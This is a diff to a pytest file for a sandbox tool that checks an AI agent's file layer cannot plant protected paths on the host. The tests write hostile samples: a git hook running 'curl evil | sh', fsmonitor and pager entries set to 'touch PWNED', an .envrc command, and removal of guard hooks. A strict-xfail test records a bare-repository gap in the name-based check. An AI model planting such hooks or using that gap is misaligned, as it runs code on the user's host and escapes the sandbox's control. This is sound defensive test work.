@@ -18,7 +18,7 @@ import pytest
 
 from tests.integration.test_inspection import REAL
 from tests.tlsfixtures import RecordingServer, UpstreamCA, _Recorder
-from tests.unit.workspace_helpers import snapshot, write
+from tests.unit.workspace_helpers import make_layer, opaque, snapshot, whiteout, write
 
 
 def _cli(sandbox, *args: str) -> subprocess.CompletedProcess[str]:
@@ -311,6 +311,90 @@ def test_apply_holds_back_a_layers_symlink_at_a_protected_names_parent(sandbox):
     applied = _cli(sandbox, "apply")
     assert "PWNED" not in _host_git_pager(ws), applied.stdout + applied.stderr
     assert ".config" in applied.stdout + applied.stderr
+
+
+def test_a_hand_made_layer_plants_no_protected_path_without_include_protected(tmp_path):
+    """apply's own wall, for a layer that holds protected paths anyway (the supervisor refuses
+    them during the run): a hook, git config, a git directory turned into a `gitdir:` file, a new
+    nested repository, the hooks deleted by a whiteout or hidden by an opaque directory, .envrc,
+    editor and agent settings, and .config reached through a link. None lands on the host."""
+    from sandboxctl.workspace import seal
+    from sandboxctl.workspace.apply import apply
+
+    ws = tmp_path / "ws"
+    write(ws / ".git/hooks/pre-push", "#!/bin/sh\n", 0o755)
+    write(ws / ".git/config", "[core]\n")
+    write(ws / "lib/.git/hooks/post-checkout", "#!/bin/sh\n", 0o755)
+    write(ws / "src/a.py", "a\n")
+    layer = make_layer(tmp_path / "state", ws)
+    upper = layer.upper
+    write(upper / ".git/hooks/pre-commit", "curl evil | sh\n", 0o755)
+    write(upper / ".git/config", "[core]\n\tfsmonitor = touch PWNED\n")
+    write(upper / "lib/.git", "gitdir: ../evil\n")  # a git directory replaced by a pointer elsewhere
+    write(upper / "vendor/.git/config", "[core]\n\tfsmonitor = touch PWNED\n")
+    write(upper / "vendor/.git/HEAD", "ref: refs/heads/main\n")
+    write(upper / ".envrc", "touch PWNED\n")
+    write(upper / ".vscode/tasks.json", "{}\n")
+    write(upper / ".claude/settings.json", "{}\n")
+    write(upper / ".mcp.json", "{}\n")
+    write(upper / "cfg/git/config", "[core]\n\tpager = touch PWNED\n")
+    os.symlink("cfg", upper / ".config")
+    write(upper / "src/b.py", "b\n")
+    seal.seal(layer)
+    start = snapshot(ws)
+    outcome = apply(layer)
+    assert (ws / "src/b.py").read_text() == "b\n"  # the ordinary change landed
+    after = snapshot(ws)
+    landed = {path for path in after if after[path] != start.get(path)} - {"src/b.py", "vendor", "cfg", "cfg/git",
+                                                                             "cfg/git/config"}
+    assert landed == set(), f"protected paths applied: {sorted(landed)}"
+    assert {".git/hooks/pre-commit", ".git/config", "lib", ".envrc", ".vscode", ".claude", ".mcp.json",
+            ".config"} <= {c.path for c in outcome.protected} | {c.path.split("/")[0] for c in outcome.protected}
+
+
+def test_hooks_deleted_or_hidden_in_a_hand_made_layer_stay(tmp_path):
+    """A whiteout over .git/hooks and an opaque .git both delete protected paths: held back."""
+    from sandboxctl.workspace import seal
+    from sandboxctl.workspace.apply import apply
+
+    ws = tmp_path / "ws"
+    write(ws / ".git/hooks/pre-push", "#!/bin/sh\nexit 1\n", 0o755)  # a guard hook the agent wants gone
+    write(ws / "sub/.git/hooks/pre-push", "#!/bin/sh\nexit 1\n", 0o755)
+    write(ws / "sub/.git/HEAD", "ref: refs/heads/main\n")
+    layer = make_layer(tmp_path / "state", ws)
+    (layer.upper / ".git").mkdir()
+    whiteout(layer.upper / ".git/hooks")
+    (layer.upper / "sub").mkdir()
+    opaque(layer.upper / "sub/.git")
+    seal.seal(layer)
+    start = snapshot(ws)
+    outcome = apply(layer)
+    after = snapshot(ws)
+    hooks = [path for path in start if "/hooks" in path]
+    assert [after.get(path) for path in hooks] == [start[path] for path in hooks]
+    assert {c.path for c in outcome.protected} >= {".git/hooks"}  # (HEAD is git's everyday work: it may go)
+
+
+@pytest.mark.xfail(strict=True, reason="apply's second wall is by names only: a bare repository (HEAD, objects/, "
+                   "refs/, config) in a hand-made layer is applied; during a run the supervisor refuses to let one "
+                   "be assembled, so a real run's layer never holds one")
+def test_a_bare_repository_in_a_hand_made_layer_is_held_back(tmp_path):
+    from sandboxctl.workspace import seal
+    from sandboxctl.workspace.apply import apply
+
+    ws = tmp_path / "ws"
+    write(ws / "src/a.py", "a\n")
+    layer = make_layer(tmp_path / "state", ws)
+    write(layer.upper / "bare/HEAD", "ref: refs/heads/main\n")
+    write(layer.upper / "bare/config", "[core]\n\tpager = touch PWNED\n")
+    (layer.upper / "bare/objects").mkdir()
+    (layer.upper / "bare/refs").mkdir()
+    seal.seal(layer)
+    apply(layer)
+    (ws / "bare").mkdir(exist_ok=True)
+    pager = subprocess.run(["git", "config", "--get", "core.pager"], cwd=ws / "bare", capture_output=True, text=True,
+                           env={"HOME": str(tmp_path), "PATH": os.environ["PATH"]}).stdout
+    assert "PWNED" not in pager, "the host's git takes the applied directory for a repository"
 
 
 # ====================================================================== the action log
